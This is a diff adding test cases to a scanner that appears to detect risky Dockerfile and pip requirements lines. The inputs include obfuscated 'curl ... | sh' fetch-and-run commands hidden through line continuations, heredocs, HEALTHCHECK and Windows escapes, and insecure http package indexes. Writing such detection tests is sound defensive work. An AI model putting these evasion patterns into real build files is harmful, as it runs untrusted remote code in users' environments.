@@ -50,6 +50,13 @@ test("instructions of a Dockerfile are read as Docker reads them", async () => {
   assert.deepEqual(await of(`ADD http://192.0.2.1/data.tar /data`), []);
   assert.deepEqual(await of(`RUN wget ${script}\nRUN bash x.sh`), ["remote-script"]);
   assert.deepEqual(await of("ENV UV_INDEX_URL https://packages.example.com"), ["foreign-index"]);
+  assert.deepEqual(await of(`RUN cu\\\nrl ${script} | sh`), ["remote-script"]);
+  assert.deepEqual(await of(`HEALTHCHECK --interval=5s CMD curl ${script} | sh`), [
+    "remote-script",
+  ]);
+  assert.deepEqual(await of(`COPY <<EOF /x.sh\ncurl ${script} | sh\nEOF`), ["remote-script"]);
+  const windows = `# escape=\`\nFROM x\nRUN curl ${script} \`\n | sh\n`;
+  assert.deepEqual(await rules("Dockerfile", windows), ["remote-script"]);
   assert.deepEqual(await of(`# RUN curl ${script} | sh`), []);
   assert.deepEqual(await of(`LABEL x="curl ${script} | sh"`), []);
 });
@@ -66,6 +73,12 @@ test("lines of requirements are read as pip reads them", async () => {
   assert.deepEqual(await of("-r http://192.0.2.1/requirements.txt"), ["insecure-index"]);
   assert.deepEqual(await of("x@http://192.0.2.1/x.whl ; python_version > '3'"), ["insecure-index"]);
   assert.deepEqual(await of("x[y] @ git+https://git.example.com/x"), ["foreign-package"]);
+  assert.deepEqual(await of('--index-url "http://192.0.2.1/simple"'), ["insecure-index"]);
+  const wide = new Uint8Array(
+    new Uint16Array([..."\ufeff-i http://192.0.2.1/s\n"].map((it) => it.charCodeAt(0))).buffer,
+  );
+  const { findings } = await report("requirements.txt", wide);
+  assert.deepEqual(findings.map(({ ruleId }) => ruleId), ["setup-insecure-index"]);
   assert.deepEqual(await of("file:///opt/x.whl\n./x\nx @ file:x.whl"), []);
 });
 
